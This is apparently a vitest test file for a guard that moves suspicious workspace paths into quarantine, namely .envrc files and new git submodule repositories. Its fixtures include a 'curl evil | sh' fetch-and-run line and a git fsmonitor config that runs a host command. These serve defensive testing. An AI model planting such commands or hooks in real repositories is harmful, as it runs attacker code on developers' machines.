import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ProtectedPathGuard, readQuarantineJournal } from './protected-guard.js';
import { workspaceLayout } from './workspace-mounts.js';

let base: string;
let root: string;
let quarantine: string;

beforeEach(async () => {
  base = await realpath(await mkdtemp(join(tmpdir(), 'paude-guard-')));
  root = join(base, 'project');
  quarantine = join(base, 'quarantine');
  await mkdir(join(root, '.git', 'hooks'), { recursive: true });
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

async function file(rel: string, text = ''): Promise<void> {
  await mkdir(join(root, rel, '..'), { recursive: true });
  await writeFile(join(root, rel), text);
}

/** A submodule repository whose config runs a command on the host at the next `git status`. */
async function evilModule(name: string): Promise<void> {
  await file(`.git/modules/${name}/HEAD`, 'ref: refs/heads/main\n');
  await file(`.git/modules/${name}/config`, '[core]\n\tfsmonitor = touch /tmp/pwned\n');
}

describe('ProtectedPathGuard', () => {
  it('moves a watched path that appears into the quarantine, keeping its content', async () => {
    const layout = workspaceLayout(root, [], []);
    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
    guard.start();
    await file('.envrc', 'curl evil | sh\n');
    expect(await guard.stop()).toEqual(['.envrc']);
    expect(existsSync(join(root, '.envrc'))).toBe(false);
    expect(await readFile(join(quarantine, '.envrc'), 'utf8')).toBe('curl evil | sh\n');
  });

  it('keeps each copy of a path made again after it was moved, and journals where each went', async () => {
    const layout = workspaceLayout(root, [], []);
    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
    guard.start();
    try {
      await file('.envrc', 'first\n');
      const deadline = Date.now() + 5000;
      while (existsSync(join(root, '.envrc')) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      await file('.envrc', 'second\n');
    } finally {
      await guard.stop();
    }
    expect(await readFile(join(quarantine, '.envrc'), 'utf8')).toBe('first\n');
    expect(await readFile(join(quarantine, '.envrc.1'), 'utf8')).toBe('second\n');
    expect((await readQuarantineJournal(quarantine)).map((e) => [e.path, e.to])).toEqual([
      ['.envrc', join(quarantine, '.envrc')],
      ['.envrc', join(quarantine, '.envrc.1')],
    ]);
  });

  it('looks once as soon as it starts: what appeared before the watching began is moved too', async () => {
    const layout = workspaceLayout(root, [], []);
    await file('.envrc', 'early\n');
    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
    guard.start();
    try {
      const deadline = Date.now() + 5000;
      while (existsSync(join(root, '.envrc')) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      expect(existsSync(join(root, '.envrc'))).toBe(false);
    } finally {
      expect(await guard.stop()).toEqual(['.envrc']);
    }
  });

  it('moves out the first submodule repository that appears (there was no .git/modules)', async () => {
    const layout = workspaceLayout(root, [], []);
    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
    guard.start();
    await evilModule('evil');
    expect(await guard.stop()).toEqual(['.git/modules']);
    expect(existsSync(join(quarantine, '.git/modules/evil/config'))).toBe(true);
  });

  it('moves out a submodule repository added next to the ones there were, and keeps those', async () => {
    await evilModule('kept');
    const layout = workspaceLayout(root, [], []);
    expect(layout.gitModules).toEqual({ modules: ['.git/modules/kept'], dirs: [] });
    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
    guard.start();
    await evilModule('libs/evil');
    await file('.git/modules/kept/modules/inner/HEAD', 'ref: refs/heads/main\n');
    // libs/ is on the way to no module there was: it goes whole.
    expect((await guard.stop()).sort()).toEqual(['.git/modules/kept/modules/inner', '.git/modules/libs']);
    expect(existsSync(join(root, '.git/modules/kept/config'))).toBe(true);
    expect(existsSync(join(root, '.git/modules/libs'))).toBe(false);
    expect(existsSync(join(quarantine, '.git/modules/libs/evil/config'))).toBe(true);
  });

  it('moves a new directory under .git/modules out while the session runs, as soon as it is made', async () => {
    await evilModule('kept');
    const layout = workspaceLayout(root, [], []);
    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
    guard.start();
    try {
      // Only the directory: what goes into it later raises no event in .git/modules.
      await mkdir(join(root, '.git/modules/evil'));
      const deadline = Date.now() + 5000;
      while (existsSync(join(root, '.git/modules/evil')) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      expect(existsSync(join(root, '.git/modules/evil'))).toBe(false);
    } finally {
      await guard.stop();
    }
  });
});
